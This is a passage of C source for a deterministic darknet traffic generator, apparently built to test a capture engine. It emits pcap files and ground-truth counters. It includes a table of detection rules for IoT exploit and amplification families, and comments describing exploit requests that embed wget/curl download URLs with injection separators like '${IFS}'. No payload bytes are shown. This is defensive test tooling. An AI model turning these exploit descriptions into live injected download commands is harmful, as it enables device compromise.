/*
 * darkcap-gen: deterministic darknet traffic generator with ground truth.
 *
 * Writes one or more classic pcap files (Ethernet, microsecond timestamps)
 * holding darknet-like traffic, plus a JSON Lines "truth" file with the
 * counters the capture engine must report for that traffic, per interval
 * and in total.
 *
 * The truth is computed by construction, never by parsing the bytes:
 *   - packet_spec_t holds the header values chosen for a packet;
 *   - emit_*() serialise a spec to bytes (the "builder");
 *   - truth_from_spec() derives the expected classification from the spec's
 *     values (the "accounting"), independently of the serialised bytes;
 *   - every edge-case kind declares its expected class in edge_tab[], where
 *     the kind is chosen, and that class overrides the spec-derived truth.
 *
 * Per-source keys (distinct sources, destinations and flowtuples, top
 * sources, per-day distinct sources) use the addresses, ports, TTL and IP
 * length carried in the expectation, again taken from the chosen values
 * (an edge kind that rewrites a length field records the value it wrote).
 *
 * Payload signatures (the default rules, lib/sig/rules/default.rules):
 *   - every payload template declares, where it is written, the rules it
 *     matches, each as [lo, hi): with hi payload bytes scanned the rule
 *     matches, with fewer than lo it cannot (sigm_t).  The truth never
 *     reads the bytes: a packet counts under a declared rule when the
 *     rule's protocol and destination-port filter (sig_rules[], the design
 *     table) accept it and its scanned length reaches hi.  Frames that cut a
 *     payload (capture length, short IP length) keep a length outside every
 *     declared [lo, hi) (pick_keep()), checked when the packet is counted.
 *   - every declared match ends within the first SIG_WITHIN (256) payload
 *     bytes, so any sig_payload_max from 256 on gives the same matches; the
 *     truth's scanned_bytes assumes the default, 1024.
 *   - the scanned payload follows the design: the IP packet ends at
 *     min(IP length as written, captured bytes); the payload starts after
 *     the TCP header (data offset as written) or the 8-byte UDP header;
 *     non-first fragments and truncated L4 headers have none
 *     (truth_payload()).
 *   - templates (UDP): DNS ANY IN (1002), version.bind TXT CH (1003), a
 *     random label's A (none); NTP mode 7 MON_GETLIST_1 (1004), mode 3 of 48
 *     bytes (1005); SSDP M-SEARCH (1006); SIP OPTIONS (1001); memcached
 *     stats/get/gets (1007); CLDAP rootDSE (1008); WS-Discovery Probe
 *     (1009); SNMP public Get/GetNext/GetBulk (1010); NBSTAT "*" (1011);
 *     chargen and random bytes (none; random bytes only ever go to ports
 *     no UDP rule filters on).  TCP (the payload share): HTTP exploit
 *     requests 2001-2006 with or without a wget/curl URL (2007, caseless,
 *     separators space, tab, '+', "%20", "${IFS}"), loaders (2007 alone)
 *     and decoys (near misses of every rule: nothing).  Filler that no
 *     rule can match (high bit set) pads TCP payloads and UDP tails.
 *   - the payload share (--payload-share, default 1.5 % of the frames
 *     other than edge cases): PSH|ACK HTTP requests (65 %, 15 % of them
 *     IPv6), rich UDP probes (35 %, 35 % IPv6), 15 % of the probes to a port
 *     outside their rule's filter, exploits sent off their rule's ports
 *     too; 8 % cut by the capture inside the payload, 8 % with an IP length
 *     ending inside the payload (the rest stays in the frame, unscanned).
 *     None has SYN set: no fingerprint applies.
 *
 * Only libc and libm are used.  Same seed and options => identical bytes.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE 1
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <math.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>

#define PROG        "darkcap-gen"
#define MAX_FRAME   9000u               /* largest frame we ever build */
#define FRAME_BUF   (MAX_FRAME + 256u)
#define MAX_FILES   64
#define BIN_US      10000000ull          /* 10 s weight bins */
#define SWEEP_SHARE 0.5                  /* share of scan waves that sweep many ports */
#define US_PER_DAY  86400000000ull
#define MAX_DAYS    3660.0

/* ------------------------------------------------------------------------ */
/* errors                                                                    */

static void die_usage(const char *fmt, ...) __attribute__((format(printf, 1, 2), noreturn));
static void die_io(const char *fmt, ...) __attribute__((format(printf, 1, 2), noreturn));
static void die_internal(const char *what) __attribute__((noreturn));

static void die_usage(const char *fmt, ...)
{
    va_list ap;
    fputs(PROG ": ", stderr);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
    exit(2);
}

static void die_io(const char *fmt, ...)
{
    va_list ap;
    fputs(PROG ": ", stderr);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
    exit(1);
}

static void die_internal(const char *what)
{
    fprintf(stderr, PROG ": internal error: %s\n", what);
    exit(3);
}

#define CHECK(c) do { if (!(c)) die_internal(#c); } while (0)

/* ------------------------------------------------------------------------ */
/* byte helpers                                                              */

static inline void put16(uint8_t *p, uint32_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static inline void put32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)(v >> 24); p[1] = (uint8_t)(v >> 16); p[2] = (uint8_t)(v >> 8); p[3] = (uint8_t)v;
}
static inline void le16(uint8_t *p, uint32_t v) { p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); }
static inline void le32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); p[2] = (uint8_t)(v >> 16); p[3] = (uint8_t)(v >> 24);
}

static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t n)
{
    while (n > 1) { sum += (uint32_t)p[0] << 8 | p[1]; p += 2; n -= 2; }
    if (n) sum += (uint32_t)p[0] << 8;
    return sum;
}

static uint16_t csum_fold(uint32_t sum)
{
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* ------------------------------------------------------------------------ */
/* PRNG: splitmix64 for hashing/seeding, xoshiro256** for streams            */

static inline uint64_t mix64(uint64_t z)
{
    z += 0x9e3779b97f4a7c15ull;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

typedef struct { uint64_t s[4]; } rng_t;

static void rng_seed(rng_t *r, uint64_t seed, uint64_t stream)
{
    uint64_t x = mix64(seed ^ mix64(stream * 0xd1b54a32d192ed03ull));
    for (int i = 0; i < 4; i++) { x = mix64(x + (uint64_t)i); r->s[i] = x; }
    if (!(r->s[0] | r->s[1] | r->s[2] | r->s[3])) r->s[0] = 1;
}

static inline uint64_t rotl64(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

static inline uint64_t rnext(rng_t *r)
{
    uint64_t *s = r->s;
    uint64_t res = rotl64(s[1] * 5, 7) * 9, t = s[1] << 17;
    s[2] ^= s[0]; s[3] ^= s[1]; s[1] ^= s[2]; s[0] ^= s[3]; s[2] ^= t; s[3] = rotl64(s[3], 45);
    return res;
}

/* uniform in [0, n), n >= 1 */
static inline uint32_t rbelow(rng_t *r, uint32_t n) { return (uint32_t)(((rnext(r) >> 32) * (uint64_t)n) >> 32); }
/* uniform in [lo, hi] */
static inline uint32_t rrange(rng_t *r, uint32_t lo, uint32_t hi) { return lo + rbelow(r, hi - lo + 1); }
static inline uint32_t r32(rng_t *r) { return (uint32_t)(rnext(r) >> 32); }
static inline uint16_t r16(rng_t *r) { return (uint16_t)(rnext(r) >> 48); }
static inline uint8_t r8(rng_t *r) { return (uint8_t)(rnext(r) >> 56); }
static inline double r01(rng_t *r) { return (double)(rnext(r) >> 11) * 0x1.0p-53; }            /* [0,1) */
static inline double r01open(rng_t *r) { return ((double)(rnext(r) >> 11) + 1.0) * 0x1.0p-53; } /* (0,1] */
static inline bool rchance(rng_t *r, double p) { return r01(r) < p; }
static void rfill(rng_t *r, uint8_t *p, size_t n)
{
    while (n >= 8) { uint64_t x = rnext(r); memcpy(p, &x, 8); p += 8; n -= 8; }
    if (n) { uint64_t x = rnext(r); memcpy(p, &x, n); }
}

/* random filler that no default rule can match: every byte has its high bit
 * set, and each rule that could meet such filler needs ASCII bytes there
 * (TCP payloads, and tails after a UDP template's matching bytes) */
static void rfill_hi(rng_t *r, uint8_t *p, size_t n)
{
    rfill(r, p, n);
    for (size_t i = 0; i < n; i++) p[i] |= 0x80;
}

typedef struct { uint32_t v, w; } wv_t;
#define WPICK(r, tab) wpick((r), (tab), sizeof(tab) / sizeof((tab)[0]))
static uint32_t wpick(rng_t *r, const wv_t *t, size_t n)
{
    uint32_t tot = 0;
    for (size_t i = 0; i < n; i++) tot += t[i].w;
    uint32_t x = rbelow(r, tot);
    for (size_t i = 0; i < n; i++) {
        if (x < t[i].w) return t[i].v;
        x -= t[i].w;
    }
    return t[n - 1].v;
}

/* ------------------------------------------------------------------------ */
/* payload signatures: the default rule set's filters (lib/sig/rules/         */
/* default.rules, as tabled in the design) and what a payload declares       */

#define SIG_PAYLOAD_MAX 1024u   /* darkcap's default sig_payload_max: bytes scanned per payload */
#define SIG_WITHIN 256u         /* every declared match ends within this many payload bytes */
#define SIG_ANN_MAX 4

typedef struct {
    uint16_t id;
    uint8_t proto;              /* 6 or 17 */
    uint8_t nports;             /* 0 = any port */
    uint16_t port[2];
    const char *name, *family;
} sigrule_t;

static const sigrule_t sig_rules[] = {      /* ascending id: the index order is the id order */
    {1001, 17, 2, {5060, 5061}, "sip-options", "sip-scan"},
    {1002, 17, 1, {53, 0}, "dns-any", "dns-amp"},
    {1003, 17, 1, {53, 0}, "dns-version-bind", "dns-recon"},
    {1004, 17, 1, {123, 0}, "ntp-monlist", "ntp-amp"},
    {1005, 17, 1, {123, 0}, "ntp-client", "ntp-scan"},
    {1006, 17, 1, {1900, 0}, "ssdp-msearch", "ssdp-amp"},
    {1007, 17, 1, {11211, 0}, "memcached-stats", "memcached-amp"},
    {1008, 17, 1, {389, 0}, "cldap-rootdse", "cldap-amp"},
    {1009, 17, 1, {3702, 0}, "wsd-probe", "wsd-amp"},
    {1010, 17, 1, {161, 0}, "snmp-public", "snmp-scan"},
    {1011, 17, 1, {137, 0}, "netbios-nbstat", "netbios-scan"},
    {2001, 6, 1, {37215, 0}, "huawei-hg532", "mirai-exploit"},
    {2002, 6, 1, {52869, 0}, "realtek-miniigd", "mirai-exploit"},
    {2003, 6, 0, {0, 0}, "jaws-shell", "mirai-exploit"},
    {2004, 6, 2, {80, 8080}, "gpon-diag", "mirai-exploit"},
    {2005, 6, 0, {0, 0}, "thinkphp-rce", "botnet-exploit"},
    {2006, 6, 0, {0, 0}, "netgear-setup-cgi", "mozi-exploit"},
    {2007, 6, 0, {0, 0}, "loader-wget", "iot-downloader"},
};
#define SIG_N (sizeof(sig_rules) / sizeof(sig_rules[0]))

static int sig_index(uint16_t id)
{
    for (size_t i = 0; i < SIG_N; i++)
        if (sig_rules[i].id == id) return (int)i;
    die_internal("signature id");
}

/* the rule's protocol and destination-port filter accept the packet */
static bool sig_accepts(int idx, uint8_t proto, uint16_t dport)
{
    const sigrule_t *s = &sig_rules[idx];
    if (s->proto != proto) return false;
    if (!s->nports) return true;
    for (int i = 0; i < s->nports; i++)
        if (s->port[i] == dport) return true;
    return false;
}

/* a UDP port some UDP rule filters on */
static bool udp_rule_port(uint16_t p)
{
    for (size_t i = 0; i < SIG_N; i++)
        if (sig_rules[i].proto == 17 && sig_accepts((int)i, 17, p)) return true;
    return false;
}

/* What a payload template declares, by construction: rule id matches the
 * payload when the scanned bytes (from the payload's first byte) reach hi;
 * it cannot match when they stop before lo (the matching bytes are not all
 * there); a scan ending in [lo, hi) is never generated (checked when the
 * packet is counted).  decoy: built to match no rule at all. */
typedef struct { uint16_t id, lo, hi; } sigm_t;
typedef struct { uint8_t n, decoy; sigm_t m[SIG_ANN_MAX]; } sigann_t;

static void ann_add(sigann_t *a, uint16_t id, size_t lo, size_t hi)
{
    CHECK(a->n < SIG_ANN_MAX && lo >= 1 && lo <= hi && hi <= SIG_WITHIN);
    (void)sig_index(id);
    a->m[a->n++] = (sigm_t){id, (uint16_t)lo, (uint16_t)hi};
}

/* every declared match lies within the n payload bytes written */
static void ann_check(const sigann_t *a, size_t n)
{
    for (int i = 0; i < a->n; i++) CHECK(a->m[i].hi <= n);
    CHECK(!(a->decoy && a->n));
}

static bool keep_ok(const sigann_t *a, size_t x)
{
    for (int i = 0; i < a->n; i++)
        if (x >= a->m[i].lo && x < a->m[i].hi) return false;
    return true;
}

/* Payload bytes a frame keeps of an n-byte payload (result < n): never
 * inside a declared [lo, hi); half the time at a boundary (lo - 1: one byte
 * short of a match, hi: just enough). */
static size_t pick_keep(rng_t *r, const sigann_t *a, size_t n)
{
    size_t cand[2 * SIG_ANN_MAX];
    uint32_t nc = 0;
    CHECK(n > 0);
    for (int i = 0; i < a->n; i++) {
        cand[nc++] = (size_t)a->m[i].lo - 1;
        if (a->m[i].hi < n) cand[nc++] = a->m[i].hi;
    }
    for (int t = 0; t < 64; t++) {
        size_t x = nc && rchance(r, 0.5) ? cand[rbelow(r, nc)] : rbelow(r, (uint32_t)n);
        if (x < n && keep_ok(a, x)) return x;
    }
    return 0;
}

/* ------------------------------------------------------------------------ */
/* expected classification (the truth of one frame)                          */

enum { CAT_NONE = 0, CAT_NONIP, CAT_MALF, CAT_V4, CAT_V6 };
enum { L4_NONE = 0, L4_TRUNC, L4_TCP, L4_UDP, L4_ICMP };

typedef struct {
    uint8_t cat;            /* CAT_* */
    uint8_t proto;          /* valid for CAT_V4/CAT_V6 */
    uint8_t frag;           /* non-first fragment */
    uint8_t l4;             /* L4_* */
    uint16_t dport;
    uint8_t icmp_type, icmp_code;   /* with l4 L4_ICMP */
    uint8_t syn, synack, mirai, zmap, masscan;
    /* identity of an IP packet (CAT_V4/CAT_V6): outer header as written */
    uint8_t src[16], dst[16];   /* IPv4: the first 4 bytes */
    uint16_t sport;             /* with l4 L4_TCP / L4_UDP */
    uint8_t ttl;                /* IPv4 TTL / IPv6 hop limit */
    uint8_t tflags;             /* with l4 L4_TCP */
    uint32_t iplen;             /* IPv4 total length / IPv6 payload length + 40 */
    /* payload (with l4 L4_TCP / L4_UDP): header bytes before it as written
     * (TCP data offset * 4, or 8), its scanned length once the frame is
     * final (set by truth_payload()), and what its template declares */
    uint16_t l4hdr;
    uint32_t paylen;
    sigann_t sig;
} expect_t;

/* ------------------------------------------------------------------------ */
/* packet spec (values chosen for one IP packet) and its serialiser          */

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_PSH 0x08
#define TH_ACK 0x10
#define TH_ECE 0x40
#define TH_CWR 0x80

enum { L4K_RAW = 0, L4K_TCP, L4K_UDP, L4K_ICMP };
enum { CS_NONE = 0, CS_PLAIN, CS_PSEUDO };

typedef struct { uint8_t type; uint8_t m; uint16_t len; uint16_t off; } ext_t;

typedef struct {
    int ver;                    /* 4 or 6 */
    /* IPv4 */
    uint32_t s4, d4;
    uint16_t id, fragword;      /* fragword = flags(3) | offset(13) */
    uint8_t ttl, tos;
    int optlen;                 /* IPv4 options bytes, multiple of 4, <= 40 */
    uint8_t opt[40];
    /* IPv6 */
    uint8_t s6[16], d6[16];
    uint32_t flow, frag_ident;
    uint8_t hlim;
    int next_ext;
    ext_t ext[4];
    /* both */
    uint8_t next;               /* IPv4 protocol / value after the last ext header */
    int csum, csum_off;         /* how to checksum the upper layer */
    /* summary of the upper-layer header as chosen (not re-read from bytes) */
    int l4kind;
    uint8_t icmp_type, icmp_code; /* L4K_ICMP */
    uint16_t sport, dport;
    uint8_t tflags;
    uint32_t seq;
    uint16_t thl;               /* TCP header bytes written (20 + options) */
    sigann_t sig;               /* what the payload's template declares */
    size_t l4len;               /* keep l4len/l4 last: reset stops here */
    uint8_t l4[MAX_FRAME];
} spec_t;

#define SPEC_RESET(sp) memset((sp), 0, offsetof(spec_t, l4len))

typedef struct {
    int ntags;
    uint16_t tpid[3], tci[3];
    uint8_t dmac[6], smac[6];
} l2_t;

typedef struct {
    uint8_t b[FRAME_BUF];
    size_t len;                 /* captured length */
    size_t wire;                /* original length (>= len) */
    size_t l3, l4;              /* offsets of IP header and of upper-layer header */
    size_t extoff[4];
    uint32_t key;               /* split key (source hash) */
} frame_t;

static size_t put_l2(uint8_t *f, const l2_t *l2, uint16_t ethertype)
{
    memcpy(f, l2->dmac, 6);
    memcpy(f + 6, l2->smac, 6);
    size_t o = 12;
    for (int i = 0; i < l2->ntags; i++) {
        put16(f + o, l2->tpid[i]);
        put16(f + o + 2, l2->tci[i]);
        o += 4;
    }
    put16(f + o, ethertype);
    return o + 2;
}

static void v4_hdr_csum(uint8_t *p)
{
    size_t hl = (size_t)(p[0] & 0x0f) * 4;
    put16(p + 10, 0);
    put16(p + 10, csum_fold(csum_add(0, p, hl)));
}

static void l4_checksum(const spec_t *sp, uint8_t *l4, size_t len)
{
    if (sp->csum == CS_NONE) return;
    put16(l4 + sp->csum_off, 0);
    uint32_t sum = 0;
    if (sp->csum == CS_PSEUDO) {
        uint8_t ph[8];
        if (sp->ver == 4) {
            put32(ph, sp->s4); put32(ph + 4, sp->d4);
            sum = csum_add(sum, ph, 8);
            put16(ph, sp->next); put16(ph + 2, (uint32_t)len);
            sum = csum_add(sum, ph, 4);
        } else {
            sum = csum_add(sum, sp->s6, 16);
            sum = csum_add(sum, sp->d6, 16);
            put32(ph, (uint32_t)len); put32(ph + 4, sp->next);
            sum = csum_add(sum, ph, 8);
        }
    }
    sum = csum_add(sum, l4, len);
    uint16_t c = csum_fold(sum);
    if (c == 0 && sp->next == 17) c = 0xffff;
    put16(l4 + sp->csum_off, c);
}

/* Serialise the IP packet; returns its length.  *l4off = upper-layer offset. */
static size_t emit_ip(uint8_t *p, const spec_t *sp, size_t *l4off, size_t *extoff)
{
    if (sp->ver == 4) {
        size_t hl = 20 + (size_t)sp->optlen;
        size_t tot = hl + sp->l4len;
        CHECK(sp->optlen % 4 == 0 && sp->optlen <= 40 && tot <= 65535);
        p[0] = (uint8_t)(0x40 | (hl / 4));
        p[1] = sp->tos;
        put16(p + 2, (uint32_t)tot);
        put16(p + 4, sp->id);
        put16(p + 6, sp->fragword);
        p[8] = sp->ttl;
        p[9] = sp->next;
        put32(p + 12, sp->s4);
        put32(p + 16, sp->d4);
        memcpy(p + 20, sp->opt, (size_t)sp->optlen);
        v4_hdr_csum(p);
        memcpy(p + hl, sp->l4, sp->l4len);
        l4_checksum(sp, p + hl, sp->l4len);
        *l4off = hl;
        return tot;
    }
    CHECK(sp->ver == 6);
    size_t o = 40, extlen = 0;
    for (int i = 0; i < sp->next_ext; i++) extlen += sp->ext[i].len;
    size_t plen = extlen + sp->l4len;
    CHECK(plen <= 65535);
    put32(p, 0x60000000u | (sp->flow & 0xfffff));
    put16(p + 4, (uint32_t)plen);
    p[6] = sp->next_ext ? sp->ext[0].type : sp->next;
    p[7] = sp->hlim;
    memcpy(p + 8, sp->s6, 16);
    memcpy(p + 24, sp->d6, 16);
    for (int i = 0; i < sp->next_ext; i++) {
        const ext_t *e = &sp->ext[i];
        uint8_t nh = i + 1 < sp->next_ext ? sp->ext[i + 1].type : sp->next;
        uint8_t *h = p + o;
        if (extoff) extoff[i] = o;
        memset(h, 0, e->len);
        h[0] = nh;
        if (e->type == 44) {
            CHECK(e->len == 8);
            put16(h + 2, (uint32_t)(e->off << 3) | e->m);
            put32(h + 4, sp->frag_ident);
        } else {
            CHECK(e->len >= 8 && e->len % 8 == 0);
            h[1] = (uint8_t)(e->len / 8 - 1);
            if (e->type == 43) {
                h[2] = e->len == 8 ? 0 : 2;          /* routing type */
                h[3] = 0;                            /* segments left */
                for (size_t a = 8; a + 16 <= e->len; a += 16) memcpy(h + a, sp->d6, 16);
            } else {
                size_t q = 2;
                if (e->type == 0) { h[2] = 5; h[3] = 2; q = 6; }  /* router alert */
                /* PadN covering the rest (rest is >= 2 here) */
                h[q] = 1;
                h[q + 1] = (uint8_t)(e->len - q - 2);
            }
        }
        o += e->len;
    }
    memcpy(p + o, sp->l4, sp->l4len);
    l4_checksum(sp, p + o, sp->l4len);
    *l4off = o;
    return o + sp->l4len;
}

static size_t frame_ip(frame_t *fr, const l2_t *l2, const spec_t *sp)
{
    size_t l4rel;
    size_t extrel[4] = {0, 0, 0, 0};
    fr->l3 = put_l2(fr->b, l2, sp->ver == 4 ? 0x0800 : 0x86DD);
    CHECK(fr->l3 + 40 + 8 * 4 + sp->l4len + 60 <= FRAME_BUF);
    size_t n = emit_ip(fr->b + fr->l3, sp, &l4rel, extrel);
    fr->l4 = fr->l3 + l4rel;
    for (int i = 0; i < 4; i++) fr->extoff[i] = fr->l3 + extrel[i];
    fr->len = fr->wire = fr->l3 + n;
    CHECK(fr->len <= MAX_FRAME);
    return fr->len;
}

/* upper-layer writers: fill sp->l4 and the summary fields */
static void l4_tcp(spec_t *sp, uint16_t sport, uint16_t dport, uint32_t seq, uint32_t ack, uint8_t flags,
                   uint16_t win, const uint8_t *opt, int optlen, size_t paylen, rng_t *r)
{
    uint8_t *p = sp->l4;
    CHECK(optlen % 4 == 0 && optlen <= 40 && 20 + (size_t)optlen + paylen <= MAX_FRAME - 34);
    put16(p, sport); put16(p + 2, dport);
    put32(p + 4, seq); put32(p + 8, ack);
    p[12] = (uint8_t)((5 + optlen / 4) << 4);
    p[13] = flags;
    put16(p + 14, win);
    put16(p + 16, 0);
    put16(p + 18, (flags & 0x20) ? r16(r) : 0);
    if (optlen) memcpy(p + 20, opt, (size_t)optlen);
    rfill_hi(r, p + 20 + optlen, paylen);
    sp->l4len = 20 + (size_t)optlen + paylen;
    sp->next = 6;
    sp->csum = CS_PSEUDO; sp->csum_off = 16;
    sp->l4kind = L4K_TCP; sp->sport = sport; sp->dport = dport; sp->tflags = flags; sp->seq = seq;
    sp->thl = (uint16_t)(20 + optlen);
}

static void l4_udp(spec_t *sp, uint16_t sport, uint16_t dport, const uint8_t *pay, size_t paylen)
{
    uint8_t *p = sp->l4;
    CHECK(8 + paylen <= MAX_FRAME - 34);
    put16(p, sport); put16(p + 2, dport);
    put16(p + 4, (uint32_t)(8 + paylen));
    put16(p + 6, 0);
    if (paylen) memmove(p + 8, pay, paylen);
    sp->l4len = 8 + paylen;
    sp->next = 17;
    sp->csum = CS_PSEUDO; sp->csum_off = 6;
    sp->l4kind = L4K_UDP; sp->sport = sport; sp->dport = dport; sp->tflags = 0; sp->seq = 0;
}

static void l4_icmp(spec_t *sp, uint8_t type, uint8_t code, uint32_t rest, const uint8_t *pay, size_t paylen)
{
    uint8_t *p = sp->l4;
    CHECK(8 + paylen <= MAX_FRAME - 34);
    p[0] = type; p[1] = code; put16(p + 2, 0); put32(p + 4, rest);
    if (paylen) memmove(p + 8, pay, paylen);
    sp->l4len = 8 + paylen;
    sp->next = sp->ver == 4 ? 1 : 58;
    sp->csum = sp->ver == 4 ? CS_PLAIN : CS_PSEUDO; sp->csum_off = 2;
    sp->l4kind = L4K_ICMP; sp->sport = 0; sp->dport = 0; sp->tflags = 0; sp->seq = 0;
    sp->icmp_type = type; sp->icmp_code = code;
}

static void l4_raw(spec_t *sp, uint8_t proto, const uint8_t *pay, size_t paylen)
{
    CHECK(paylen <= MAX_FRAME - 34);
    if (paylen) memmove(sp->l4, pay, paylen);
    sp->l4len = paylen;
    sp->next = proto;
    sp->csum = CS_NONE; sp->csum_off = 0;
    sp->l4kind = L4K_RAW; sp->sport = 0; sp->dport = 0; sp->tflags = 0; sp->seq = 0;
}

/* ------------------------------------------------------------------------ */
/* truth side: expectation from the chosen values                            */

static void truth_tcp_flags(expect_t *e, uint8_t flags)
{
    bool syn = flags & TH_SYN, ack = flags & TH_ACK;
    e->syn = syn && !ack;
    e->synack = syn && ack;
}

/* Expected classification of an as-built (complete, well-formed) IP packet. */
static void truth_from_spec(expect_t *e, const spec_t *sp)
{
    memset(e, 0, sizeof(*e));
    bool nonfirst = false;
    uint8_t proto;
    if (sp->ver == 4) {
        e->cat = CAT_V4;
        proto = sp->next;
        nonfirst = (sp->fragword & 0x1fff) != 0;
        put32(e->src, sp->s4);
        put32(e->dst, sp->d4);
        e->ttl = sp->ttl;
        e->iplen = 20 + (uint32_t)sp->optlen + (uint32_t)sp->l4len;
    } else {
        CHECK(sp->ver == 6);
        e->cat = CAT_V6;
        proto = sp->next;
        memcpy(e->src, sp->s6, 16);
        memcpy(e->dst, sp->d6, 16);
        e->ttl = sp->hlim;
        e->iplen = 40 + (uint32_t)sp->l4len;
        for (int i = 0; i < sp->next_ext; i++) e->iplen += sp->ext[i].len;
        for (int i = 0; i < sp->next_ext; i++) {
            const ext_t *x = &sp->ext[i];
            CHECK(x->type == 0 || x->type == 43 || x->type == 44 || x->type == 60);
            if (x->type == 44 && x->off > 0) {
                nonfirst = true;
                proto = i + 1 < sp->next_ext ? sp->ext[i + 1].type : sp->next;
                break;
            }
        }
    }
    e->proto = proto;
    if (nonfirst) {
        e->frag = 1;
        return;
    }
    if (proto == 6) {
        CHECK(sp->l4kind == L4K_TCP && sp->l4len >= 20);
        e->l4 = L4_TCP;
        e->sport = sp->sport;
        e->dport = sp->dport;
        e->tflags = sp->tflags;
        e->l4hdr = sp->thl;
        e->sig = sp->sig;
        truth_tcp_flags(e, sp->tflags);
        if (sp->ver == 4 && e->syn) {
            uint32_t dst = sp->d4, seq = sp->seq;
            uint32_t id = sp->id, dport = sp->dport;
            e->mirai = seq == dst;
            e->zmap = id == 54321;
            e->masscan = id == ((dst ^ dport ^ seq) & 0xffff);
        }
    } else if (proto == 17) {
        CHECK(sp->l4kind == L4K_UDP && sp->l4len >= 8);
        e->l4 = L4_UDP;
        e->sport = sp->sport;
        e->dport = sp->dport;
        e->l4hdr = 8;
        e->sig = sp->sig;
    } else if (proto == (sp->ver == 4 ? 1 : 58)) {
        /* the generator writes every ICMP message whole (8 bytes or more) */
        CHECK(sp->l4kind == L4K_ICMP && sp->l4len >= 8);
        e->l4 = L4_ICMP;
        e->icmp_type = sp->icmp_type;
        e->icmp_code = sp->icmp_code;
    } else {
        CHECK(sp->l4kind == L4K_RAW || sp->l4kind == L4K_ICMP);
    }
}

/* The payload's scanned length, once the frame is final: the IP packet
 * ends at min(IP length as written (e->iplen), captured bytes); the payload
 * starts after the TCP/UDP header as written.  l3/l4 are where the builder
 * put the headers, len is what it kept of the frame. */
static void truth_payload(expect_t *e, size_t l3, size_t l4, size_t len)
{
    e->paylen = 0;
    if ((e->cat != CAT_V4 && e->cat != CAT_V6) || e->frag || (e->l4 != L4_TCP && e->l4 != L4_UDP)) {
        memset(&e->sig, 0, sizeof(e->sig));
        return;
    }
    if (e->l4 == L4_TCP && e->l4hdr < 20) return;     /* data offset < 5: no payload */
    size_t end = l3 + e->iplen, start = l4 + e->l4hdr;
    if (end > len) end = len;
    if (end > start) e->paylen = (uint32_t)(end - start);
}

/* ------------------------------------------------------------------------ */
/* sources                                                                   */

enum { F_ORD = 0, F_MIRAI, F_ZMAP, F_MASSCAN };

typedef struct {
    uint32_t idx;
    uint32_t ip4;
    uint8_t ip6[16];
    uint8_t fam;
    uint8_t ttl0;       /* initial TTL (64/128/255) */
    uint8_t hops;
    uint8_t optstyle;
    uint16_t pref_port;
    uint16_t sport_base;
    uint32_t key;       /* split hash of the source address */
} src_t;

static bool bogon4(uint32_t a)
{
    uint32_t o1 = a >> 24, o2 = (a >> 16) & 0xff;
    if (o1 == 0 || o1 == 10 || o1 == 127 || o1 >= 224) return true;
    if (o1 == 100 && (o2 & 0xc0) == 64) return true;
    if (o1 == 169 && o2 == 254) return true;
    if (o1 == 172 && (o2 & 0xf0) == 16) return true;
    if (o1 == 192 && o2 == 168) return true;
    if ((a >> 8) == 0xc00000 || (a >> 8) == 0xc00002) return true;   /* 192.0.0/24, 192.0.2/24 */
    if ((a >> 17) == (0xc6120000u >> 17)) return true;               /* 198.18/15 (our darknet) */
    if ((a >> 8) == 0xc63364 || (a >> 8) == 0xcb0071) return true;  /* 198.51.100/24, 203.0.113/24 */
    return false;
}

static const wv_t ord_ports[] = {
    {22, 100}, {80, 90}, {445, 90}, {6379, 80}, {23, 80}, {8080, 70}, {3389, 60}, {443, 60},
    {8443, 30}, {81, 30}, {5555, 30}, {52869, 20}, {5501, 20}, {2323, 15}, {37215, 15},
    {21, 20}, {25, 10}, {1433, 20}, {3306, 20}, {5900, 20}, {8081, 10}, {7547, 20}, {2375, 10},
    {9200, 10}, {8888, 10}, {0, 2}, {65536, 260},                     /* 65536 = random port */
};
static const wv_t mirai_ports[] = {
    {23, 700}, {2323, 100}, {37215, 60}, {5555, 40}, {22, 40}, {52869, 30}, {80, 20}, {8080, 10},
};

static uint16_t port_from(rng_t *r, uint32_t v)
{
    return v == 65536 ? (uint16_t)rrange(r, 1, 65535) : (uint16_t)v;
}

typedef struct {
    uint64_t seed_src;
    uint32_t nsrc, nsrc6;
    bool uniform;               /* --many-sources: every index equally likely */
} srcpool_t;

static void src_get(const srcpool_t *pool, uint32_t idx, src_t *s)
{
    uint64_t h = mix64(pool->seed_src ^ ((uint64_t)idx * 0x9e3779b97f4a7c15ull));
    uint64_t x = h;
    uint32_t a;
    do { x = mix64(x); a = (uint32_t)x; } while (bogon4(a));
    s->idx = idx;
    s->ip4 = a;
    uint64_t b = mix64(h ^ 0x5151515151515151ull), c = mix64(b), d = mix64(c);
    /* public-looking IPv6: 2400::/8 .. 2aff::/16 */
    uint16_t top = (uint16_t)(0x2400 + (b % 0x700));
    s->ip6[0] = (uint8_t)(top >> 8); s->ip6[1] = (uint8_t)top;
    for (int i = 2; i < 10; i++) s->ip6[i] = (uint8_t)(c >> (8 * (i - 2)));
    for (int i = 10; i < 16; i++) s->ip6[i] = (uint8_t)(d >> (8 * (i - 10)));
    uint32_t f = (uint32_t)((b >> 32) % 100);
    s->fam = f < 30 ? F_MIRAI : f < 45 ? F_ZMAP : f < 60 ? F_MASSCAN : F_ORD;
    uint32_t t = (uint32_t)((c >> 40) % 10);
    if (s->fam == F_ZMAP || s->fam == F_MASSCAN) s->ttl0 = 255;
